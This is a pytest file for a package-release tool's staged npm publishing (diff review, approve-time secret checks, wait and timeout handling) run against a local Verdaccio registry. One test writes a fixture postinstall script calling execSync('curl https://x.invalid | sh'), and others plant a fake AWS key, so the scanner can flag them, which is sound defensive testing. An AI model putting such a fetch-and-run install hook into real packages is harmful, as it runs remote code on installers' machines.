"""Review before approval on the real Verdaccio: `stage diff`, the approve-time re-check, `--wait`."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.stage.conftest import published_versions, staged_items

# an AWS access key id, assembled at run time so no whole key sits in the repository
PLANTED_KEY = "AKIA" + "IOSFODNN7" + "EXAMPLQ"


def edit_manifest(project: Path, **changes: Any) -> None:
    manifest = json.loads((project / "package.json").read_text())
    manifest.update(changes)
    (project / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")


def stage(lpm, registry: str, *extra: str) -> str:  # type: ignore[no-untyped-def]
    run = lpm("stage", "publish", "-y", "--json", "--npm-registry", registry, *extra)
    assert run.code == 0, run.text
    return str(run.json()["stageId"])


def npm_stage_publish(verdaccio, token: str, project: Path) -> str:  # type: ignore[no-untyped-def]
    result = verdaccio.npm("stage", "publish", "--json", token=token, cwd=project)
    doc = json.loads(result.stdout[result.stdout.index("{") :])
    return str(doc.get("stageId") or next(v["stageId"] for v in doc.values() if isinstance(v, dict)))


def approve_requests(verdaccio, stage_id: str) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    return [
        line
        for line in verdaccio.log_lines()
        if line.get("req", {}).get("method") == "POST"
        and f"/-/stage/{stage_id}/approve" in line["req"].get("url", "")
    ]


def test_diff_puts_postinstall_dependency_and_child_process_under_security(published, verdaccio, lpm) -> None:
    edit_manifest(
        published.dir,
        scripts={"test": "node --test test/", "postinstall": "node lib/setup.js"},
        dependencies={"left-pad": "^1.3.0"},
    )
    (published.dir / "lib" / "setup.js").write_text(
        "import { execSync } from 'node:child_process';\n\nexecSync('curl https://x.invalid | sh');\n"
    )
    stage_id = stage(lpm, verdaccio.url)

    run = lpm("stage", "diff", stage_id, "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    data = run.json()["data"]
    assert data["against"] == "1.0.0" and data["version"] == "1.1.0"
    security = {(c["kind"], c["field"]) for c in data["security"]}
    assert ("lifecycle-script", "scripts.postinstall") in security
    assert ("dependency", "dependencies.left-pad") in security
    assert [a["path"] for a in data["files"]["added"]] == ["lib/setup.js"]
    risky = [s for s in data["signals"] if s["kind"] == "risky-api"]
    assert {(s["file"], s["line"]) for s in risky} >= {("lib/setup.js", 1), ("lib/setup.js", 3)}
    assert data["hostile"] == []

    text = lpm("stage", "diff", stage_id, "--patch", "--npm-registry", verdaccio.url)
    assert text.code == 0, text.text
    assert text.out.index("Security-relevant") < text.out.index("Files:") < text.out.index("Content signals")
    assert "+execSync('curl https://x.invalid | sh');" in text.out


def test_diff_of_a_first_version_says_so(verdaccio, registry_user, example_project, lpm, monkeypatch) -> None:
    project = example_project()
    monkeypatch.chdir(project)
    monkeypatch.setenv("NPM_TOKEN", registry_user.token)
    # npm accepts staging a package's very first version; compare with nothing
    stage_id = npm_stage_publish(verdaccio, registry_user.token, project)
    run = lpm("stage", "diff", stage_id, "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    data = run.json()["data"]
    assert data["firstVersion"] is True and data["against"] is None
    assert "package.json" in [f["path"] for f in data["fileList"]]
    text = lpm("stage", "diff", stage_id, "--npm-registry", verdaccio.url)
    assert "first version" in text.out


def test_patch_withholds_secret_lines(published, verdaccio, lpm) -> None:
    (published.dir / "lib" / "index.js").write_text(
        f'export const key = "{PLANTED_KEY}";\nexport function greet(name = "world") {{ return name; }}\n'
    )
    stage_id = npm_stage_publish(verdaccio, published.token, published.dir)  # CI that skipped the scan
    run = lpm("stage", "diff", stage_id, "--patch", "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    patch = run.json()["data"]["patches"]["lib/index.js"]
    assert "line withheld: possible secret (AWS Access Key" in patch
    assert PLANTED_KEY not in run.text


def test_approve_refuses_a_planted_secret_before_any_approval_request(published, verdaccio, lpm) -> None:
    (published.dir / "lib" / "config.js").write_text(f'export const awsKey = "{PLANTED_KEY}";\n')
    stage_id = npm_stage_publish(verdaccio, published.token, published.dir)  # staged past releasekit

    run = lpm("stage", "approve", stage_id, "--otp", "123456", "--npm-registry", verdaccio.url)
    assert run.code == 1, run.text
    assert "refused" in run.err and "nothing was sent" in run.err
    assert "AWS Access Key" in run.err and PLANTED_KEY not in run.text
    assert approve_requests(verdaccio, stage_id) == []
    assert [i["id"] for i in staged_items(verdaccio, published.token, published.name)] == [stage_id]
    assert "1.1.0" not in published_versions(verdaccio, published.name)

    as_json = lpm("stage", "approve", stage_id, "--json", "--npm-registry", verdaccio.url)
    doc = as_json.json()
    assert as_json.code == 1 and doc["error_code"] == "gate_failed"
    assert doc["data"]["review"]["blocked"] is True
    assert approve_requests(verdaccio, stage_id) == []


def test_skip_checks_approves_without_review_and_says_so(published, verdaccio, lpm) -> None:
    stage_id = stage(lpm, verdaccio.url)
    run = lpm("stage", "approve", stage_id, "--skip-checks", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    assert "WARNING: --skip-checks" in run.err and "NOT downloaded" in run.err
    assert "1.1.0" in published_versions(verdaccio, published.name)


def test_approve_with_review_shows_summary_and_asks_on_a_tty(published, verdaccio, lpm) -> None:
    stage_id = stage(lpm, verdaccio.url)
    declined = lpm("stage", "approve", stage_id, "--npm-registry", verdaccio.url, tty=True, stdin="n\n")
    assert declined.code == 2, declined.text
    assert "against" in declined.err and "Approve" in declined.err
    assert approve_requests(verdaccio, stage_id) == []

    accepted = lpm("stage", "approve", stage_id, "--npm-registry", verdaccio.url, tty=True, stdin="y\n")
    assert accepted.code == 0, accepted.text
    assert "1.1.0" in published_versions(verdaccio, published.name)


def start_wait(published, verdaccio, timeout: str) -> subprocess.Popen[str]:  # type: ignore[no-untyped-def]
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "releasekit",
            "stage",
            "publish",
            "-y",
            "--json",
            "--wait",
            "--timeout",
            timeout,
            "--npm-registry",
            verdaccio.url,
        ],
        cwd=published.dir,
        env={**os.environ, "NPM_TOKEN": published.token},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def staged_id_when_ready(verdaccio, published, deadline: float = 120.0) -> str:  # type: ignore[no-untyped-def]
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        items = staged_items(verdaccio, published.token, published.name)
        if items:
            return str(items[0]["id"])
        time.sleep(0.5)
    raise AssertionError("lpm never staged the version")


@pytest.mark.npm
@pytest.mark.parametrize("decision", ["approve", "reject"])
def test_wait_sees_a_parallel_npm_decision(published, verdaccio, decision: str) -> None:
    process = start_wait(published, verdaccio, "180s")
    try:
        stage_id = staged_id_when_ready(verdaccio, published)
        time.sleep(1.0)  # let lpm start polling
        verdaccio.npm("stage", decision, stage_id, token=published.token)
        out, err = process.communicate(timeout=120)
    finally:
        process.kill()
    doc = json.loads(out)
    expected = {"approve": (0, "approved"), "reject": (1, "rejected")}[decision]
    assert (process.returncode, doc["data"]["wait"]["state"]) == expected, err
    assert doc["stageId"] == stage_id and doc["success"] is (decision == "approve")


def test_wait_timeout_exits_124(published, verdaccio, lpm) -> None:
    run = lpm("stage", "publish", "-y", "--wait", "--timeout", "2s", "--npm-registry", verdaccio.url)
    assert run.code == 124, run.text
    assert "Timed out" in run.out and "still staged" in run.out
    assert len(staged_items(verdaccio, published.token, published.name)) == 1


def test_wait_flag_errors(published, lpm) -> None:
    assert lpm("stage", "publish", "--timeout", "5m").code == 2
    assert lpm("stage", "publish", "--wait", "--dry-run").code == 2
    run = lpm("stage", "publish", "-y", "--wait", "--timeout", "soon")
    assert run.code == 2 and "invalid duration" in run.err


def test_the_quality_score_at_approve_time_is_the_score_at_stage_time(published, verdaccio, lpm) -> None:
    """Issue 14: the CHANGELOG kept only in the repository, and the tests, count at stage and approve alike."""
    (published.dir / "CHANGELOG.md").write_text("# Changelog\n\n## 1.1.0\n\n- Greets louder.\n")
    staged = lpm("stage", "publish", "-y", "--json", "--npm-registry", verdaccio.url)
    assert staged.code == 0, staged.text
    at_stage = staged.json()["data"]["policies"]["score"]
    run = lpm("stage", "approve", staged.json()["stageId"], "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    at_approve = run.json()["data"]["review"]["policies"]["score"]
    assert at_stage is not None and at_approve == at_stage
    changelog = next(c for c in at_stage["breakdown"] if c["id"].endswith("::policy_changelog"))
    assert "in the repository" in changelog["detail"]
